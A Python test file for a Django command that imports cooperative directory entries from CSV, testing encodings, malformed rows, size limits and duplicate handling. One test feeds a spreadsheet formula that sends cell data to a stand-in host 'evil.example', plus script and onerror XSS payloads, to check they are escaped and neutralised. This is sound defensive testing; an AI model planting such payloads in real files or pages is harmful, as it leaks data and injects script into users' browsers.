"""Importing actors from hostile CSV files: each problem gets a clear message (the line,
what is wrong, what to do), and the documented behaviour of ``network/importing.py`` holds:
a file refused as a whole saves nothing; a row in error is reported and left out while the
other rows are imported; what is kept is kept as typed, and is safe when shown or exported.

The import is a management command only: no URL of the site reaches it (checked below)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import get_resolver
from django.utils import translation

from network.directory.importing import actors_import, text_lines
from network.directory.models import Actor, ActorStatus

pytestmark = pytest.mark.django_db

GOOD = "Atelier Vélo Solidaire"


def run(tmp_path, capsys, content, *args, name="acteurs.csv"):
    """Run the command on ``content`` (bytes, or text written as UTF-8); its output."""
    path = tmp_path / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    call_command("import_actors", str(path), "--language", "en", *args)
    return capsys.readouterr().out


def refused(tmp_path, content, *args):
    """The message of a file refused as a whole; and nothing was saved."""
    path = tmp_path / "refused.csv"
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    with pytest.raises(CommandError) as error:
        call_command("import_actors", str(path), "--language", "en", *args)
    assert not Actor.objects.exists()
    return str(error.value)


# Encodings.


def test_utf8_with_a_byte_order_mark_and_utf16_with_its_mark_are_read(vocab, tmp_path, capsys):
    text = f"name,territory\r\n{GOOD},nantes\r\n"
    out = run(tmp_path, capsys, text.encode("utf-8-sig"), name="bom.csv")
    assert f"line 2: ok — {GOOD}" in out
    # Excel's "Unicode text": UTF-16 with its mark, separated by tabs.
    text = "name\tterritory\r\nÉpicerie Zéro Déchet\tdakar\r\n"
    out = run(tmp_path, capsys, text.encode("utf-16"), name="utf16.csv")
    assert "line 2: ok — Épicerie Zéro Déchet" in out
    assert sorted(Actor.objects.values_list("name", flat=True)) == [
        GOOD,
        "Épicerie Zéro Déchet",
    ]


def test_latin1_is_refused_at_its_first_line_that_is_not_utf8(vocab, tmp_path):
    text = f"name,territory\nPlain Coop,nantes\n{GOOD},nantes\n"
    message = refused(tmp_path, text.encode("latin-1"))
    assert "Line 3 is not UTF-8 text (byte 0xE9)" in message
    assert "CSV UTF-8" in message  # what to do about it


def test_utf16_without_its_mark_and_spreadsheet_files_are_refused(vocab, tmp_path):
    assert "UTF-16" in refused(tmp_path, "name,territory\nA,nantes\n".encode("utf-16-le"))
    assert "spreadsheet file" in refused(tmp_path, b"PK\x03\x04" + b"\x00" * 100)


# Separators and headers.


def test_semicolons_and_tabs_separate_as_well_as_commas(vocab, tmp_path, capsys):
    out = run(tmp_path, capsys, "name;territory;sectors\nCoop Point-Virgule;nantes;habitat\n")
    assert "1 rows: 1 ok" in out
    out = run(tmp_path, capsys, "name\tterritory\nCoop Tabulation\tnantes\n")
    assert "1 rows: 1 ok" in out
    assert Actor.objects.get(name="Coop Point-Virgule").sectors.get().slug == "habitat"


def test_an_unknown_separator_is_named_as_an_unknown_column(vocab, tmp_path):
    message = refused(tmp_path, "name|territory\nCoop|nantes\n")
    assert "Unknown columns: name|territory. The columns are: name, legal_form" in message


def test_header_problems_refuse_the_whole_file_with_what_to_fix(vocab, tmp_path):
    assert "needs a “name” column" in refused(tmp_path, "description,territory\nx,nantes\n")
    assert "Columns named twice: sectors" in refused(
        tmp_path, "name,sectors,Sectors\nA,habitat,alimentation\n"
    )
    # A misspelt column would lose its values in every row: refused, not ignored.
    assert "Unknown columns: secteurs" in refused(tmp_path, f"name,secteurs\n{GOOD},habitat\n")
    # Case, blanks and a stray byte order mark do not matter.
    assert actors_import(
        lines=io.StringIO(f"\ufeff Name ,TERRITORY\n{GOOD},nantes\n"), dry_run=True
    )


def test_a_header_of_10000_columns_gets_a_short_message(vocab, tmp_path):
    header = ",".join(["name"] + [f"col{n}" for n in range(10_000)])
    message = refused(tmp_path, header + "\n" + "A" + ",x" * 10_000 + "\n")
    assert "Unknown columns: col0, col1, col2, col3, col4 and 9995 more." in message
    assert len(message) < 500


def test_an_empty_file_and_a_file_with_only_a_header(vocab, tmp_path, capsys):
    assert "The file is empty" in refused(tmp_path, b"")
    assert "The file is empty" in refused(tmp_path, ",,\n\n")
    out = run(tmp_path, capsys, "name,territory\n")
    assert "0 rows: 0 ok, 0 potential duplicates, 0 errors. 0 actors saved" in out


# Rows.


def test_a_row_with_10000_values_or_too_few_is_an_error_and_the_others_are_imported(
    vocab, tmp_path, capsys
):
    text = (
        "name,territory\n"
        f"{GOOD},nantes\n"
        "Trop,nantes" + ",x" * 9_998 + "\n"
        "Pas assez\n"
        "\n"
        ",\n"  # blank rows are skipped
        "Coop Suivante,dakar\n"
    )
    out = run(tmp_path, capsys, text)
    assert "line 3: error — Trop: 10000 values where the header has 2 columns" in out
    assert "line 4: error — Pas assez: 1 values where the header has 2 columns" in out
    assert "line 7: ok — Coop Suivante" in out
    assert "4 rows: 2 ok, 0 potential duplicates, 2 errors. 2 actors saved" in out
    assert set(Actor.objects.values_list("name", flat=True)) == {GOOD, "Coop Suivante"}


def test_a_huge_value_or_a_quote_never_closed_refuses_the_file_at_its_line(vocab, tmp_path):
    huge = "x" * (csv.field_size_limit() + 1)
    message = refused(tmp_path, f'name,description\n{GOOD},ok\nB,"{huge}"\n')
    assert "Line 3 cannot be read as CSV (field larger than field limit (131072))" in message
    message = refused(tmp_path, f'name,description\n{GOOD},ok\nB,"never closed\nC,x\n')
    assert "Line 3 cannot be read as CSV (unexpected end of data)" in message
    message = refused(tmp_path, f'name,description\n{GOOD},"closed"then more\n')
    assert "Line 2 cannot be read as CSV" in message


def test_a_value_longer_than_its_field_is_a_row_error(vocab, tmp_path, capsys):
    out = run(tmp_path, capsys, f"name,description\n{GOOD},{'x' * 5000}\n{'N' * 300},ok\n")
    assert "line 2: error — Atelier Vélo Solidaire: description:" in out
    assert "line 3: error — " + "N" * 199 + "…: name:" in out
    assert not Actor.objects.exists()


def test_nul_and_terminal_escapes_are_row_errors_and_never_reach_the_terminal(
    vocab, tmp_path, capsys
):
    text = (
        "name,description\n"
        "Nul\x00Coop,ok\n"
        "\x1b[2J\x1b[31mEffacé,ok\n"
        f'{GOOD},"tab\there, line\nbreak"\n'
    )
    out = run(tmp_path, capsys, text)
    assert "line 2: error — Nul<U+0000>Coop: name: contains a control character (U+0000)" in out
    assert "line 3: error — <U+001B>[2J<U+001B>[31mEffacé: name: contains a control" in out
    assert "\x1b[2J" not in out and "\x00" not in out
    (actor,) = Actor.objects.all()  # saved on PostgreSQL too, which refuses NUL in text
    assert actor.description == "tab\there, line\nbreak"


def test_embedded_line_breaks_and_quotes_are_kept_and_lines_are_the_files(vocab, tmp_path, capsys):
    text = (
        "name,description,address\r\n"
        f'{GOOD},"Il a dit : ""bonjour""\r\net, bien sûr,\r\nau revoir",1 rue "des" Halles\r\n'
        "Après,x,y\r\n"
        "Lieu inconnu,x,y\r\n"
    )
    out = run(tmp_path, capsys, text.replace("Lieu inconnu,x,y", "Zz,x,y,z"))
    assert "line 2: ok — Atelier Vélo Solidaire" in out
    assert "line 5: ok — Après" in out  # the row after a value over three lines
    assert "line 6: error — Zz: 4 values" in out
    actor = Actor.objects.get(name=GOOD)
    assert actor.description == 'Il a dit : "bonjour"\r\net, bien sûr,\r\nau revoir'
    assert actor.address == '1 rue "des" Halles'


def test_values_that_are_not_numbers_years_or_yes_no_are_row_errors(vocab, tmp_path, capsys):
    text = (
        "name,latitude,longitude,year_founded,umbrella\n"
        "A1,NaN,1,,\n"
        "A2,sNaN,1,,\n"
        "A3,1,-Infinity,,\n"
        "A4,1e999,1,,\n"
        "A5,,,²,\n"
        f"A6,,,{'9' * 5000},\n"
        "A7,,,1999,peut-être\n"
        'A8,"47,2",-1.55,1999,oui\n'
    )
    out = run(tmp_path, capsys, text)
    assert "line 2: error — A1: latitude: not a number: “NaN”" in out
    assert "line 3: error — A2: latitude: not a number: “sNaN”" in out
    assert "line 4: error — A3: longitude: not a number: “-Infinity”" in out
    assert "line 5: error — A4: latitude:" in out
    assert "line 6: error — A5: year_founded: not a year: “²”" in out
    assert "line 7: error — A6: year_founded: not a year: “9999999" in out
    assert "line 8: error — A7: umbrella: yes or no, not “peut-être”" in out
    assert "8 rows: 1 ok, 0 potential duplicates, 7 errors." in out
    actor = Actor.objects.get()
    assert (float(actor.latitude), float(actor.longitude)) == (47.2, -1.55)
    assert actor.is_umbrella and actor.year_founded == 1999


def test_unknown_sectors_territories_and_legal_forms_are_named(vocab, tmp_path, capsys):
    text = (
        "name,sectors,territory,legal_form\n"
        "A,alimentation|spatial,nantes,association\n"
        "B,,Atlantide,\n"
        "C,,,Société secrète\n"
        f"{GOOD},habitat|compostage,44109,SCOP\n"
    )
    out = run(tmp_path, capsys, text)
    assert "line 2: error — A: sectors: unknown: “spatial”" in out
    assert "line 3: error — B: territory: unknown: “Atlantide”" in out
    assert "line 4: error — C: legal_form: unknown: “Société secrète”" in out
    actor = Actor.objects.get()
    assert actor.territory == vocab["nantes"]  # found by its official code
    assert sorted(actor.sectors.values_list("slug", flat=True)) == ["compostage", "habitat"]


# Size.


def test_more_rows_than_the_limit_refuse_the_file_before_anything_is_saved(
    vocab, tmp_path, capsys, settings
):
    settings.ESSAIM_IMPORT_MAX_ROWS = 5
    rows = "".join(f"Coop numéro {n},nantes\n" for n in range(6))
    message = refused(tmp_path, "name,territory\n" + rows)
    assert "The file has more than 5 rows: split it into smaller files." in message
    out = run(tmp_path, capsys, "name,territory\n" + rows.rsplit("Coop numéro 5", 1)[0])
    assert "5 actors saved" in out


def test_a_file_over_the_size_limit_is_refused_unread(vocab, tmp_path):
    # 20 MB by default: a real file of 21 MB of rows that would each be valid.
    row = ("Coop,nantes," + "d" * 1000 + "\n").encode()
    content = b"name,territory,description\n" + row * (21 * 1024 * 1024 // len(row))
    message = refused(tmp_path, content)
    assert "The file is larger than 20.0\xa0MB: split it into smaller files." in message


def test_text_lines_reads_no_more_than_the_limit(settings):
    settings.ESSAIM_IMPORT_MAX_BYTES = 1000

    class Counting(io.BytesIO):
        asked = 0

        def read(self, size=-1):
            Counting.asked = size
            return super().read(size)

    with translation.override("en"), pytest.raises(Exception, match="larger than"):
        text_lines(Counting(b"x" * 50_000))
    assert Counting.asked == 1001
    assert list(text_lines(io.BytesIO(b"name\r\nA\r\n"))) == ["name\r\n", "A\r\n"]


# What is kept, and how it comes out again.


def test_formulas_and_html_are_stored_as_text_escaped_on_pages_and_neutralised_in_exports(
    vocab, tmp_path, capsys, client
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    script = "<script>alert('essaim')</script>"
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["name", "description", "website", "territory"])
    writer.writerow([formula, script, "", "nantes"])
    writer.writerow([script, '<img src=x onerror="alert(1)">', "", "dakar"])
    out = run(tmp_path, capsys, text.getvalue(), "--publish")
    assert "2 rows: 2 ok" in out
    by_name = {actor.name: actor for actor in Actor.objects.all()}
    assert by_name[formula].description == script  # exactly as typed
    html = client.get(f"/fr/directory/{by_name[script].slug}/").content.decode()
    assert "&lt;script&gt;alert(&#x27;essaim&#x27;)&lt;/script&gt;" in html
    assert script not in html and "<img src=x" not in html
    exported = list(
        csv.DictReader(
            io.StringIO(
                client.get("/fr/directory/open-data/actors.csv").content.decode("utf-8-sig")
            )
        )
    )
    assert "'" + formula in {row["name"] for row in exported}
    assert not any(row["name"].startswith("=") for row in exported)


def test_same_names_get_their_own_slugs_and_the_second_is_flagged(vocab, tmp_path, capsys):
    text = (
        "name,territory\n"
        f"{GOOD},nantes\n"
        f"{GOOD},nantes\n"
        "Statistics,dakar\n"  # a name whose slug is one of the directory's own pages
        "!!!,dakar\n"
        "日本の協同組合,dakar\n"
    )
    out = run(tmp_path, capsys, text)
    assert "line 3: potential duplicate — Atelier Vélo Solidaire looks like line 2" in out
    slugs = dict(Actor.objects.values_list("name", "slug"))
    assert len(set(slugs.values())) == 4  # the two of the same name share one key here
    assert sorted(Actor.objects.filter(name=GOOD).values_list("slug", flat=True)) == [
        "atelier-velo-solidaire",
        "atelier-velo-solidaire-2",
    ]
    assert slugs["Statistics"] == "statistics-ess"
    assert {slugs["!!!"], slugs["日本の協同組合"]} == {"acteur", "acteur-2"}
    second = Actor.objects.get(slug="atelier-velo-solidaire-2")
    assert second.status == ActorStatus.DUPLICATE
    assert second.duplicate_of.slug == "atelier-velo-solidaire"


def test_an_actor_already_in_the_directory_is_flagged_not_changed(
    vocab, make_actor, tmp_path, capsys
):
    existing = make_actor(name=GOOD, slug="atelier-velo-solidaire", description="Avant")
    out = run(tmp_path, capsys, f"name,territory,description\n{GOOD},nantes,Après\n")
    assert f"looks like #{existing.pk} {GOOD}" in out
    imported = Actor.objects.exclude(pk=existing.pk).get()
    assert (imported.status, imported.duplicate_of) == (ActorStatus.DUPLICATE, existing)
    assert imported.slug == "atelier-velo-solidaire-2"
    existing.refresh_from_db()
    assert existing.description == "Avant" and existing.status == ActorStatus.PUBLISHED


def test_the_report_language_is_a_choice_of_the_sites(vocab, tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("name\nA\n")
    with pytest.raises(CommandError, match="invalid choice"):
        call_command("import_actors", str(path), "--language", "de")


def test_no_url_of_the_site_imports_actors():
    """The import is not reachable from the web, so it has no view to test."""
    views = {
        f"{pattern.callback.__module__}.{getattr(pattern.callback, '__name__', '')}"
        for pattern in _all_patterns(get_resolver().url_patterns)
    }
    assert any(view.startswith("network.") for view in views)
    assert not any("importing" in view or "actors_import" in view for view in views)


def _all_patterns(patterns):
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _all_patterns(pattern.url_patterns)
        else:
            yield pattern
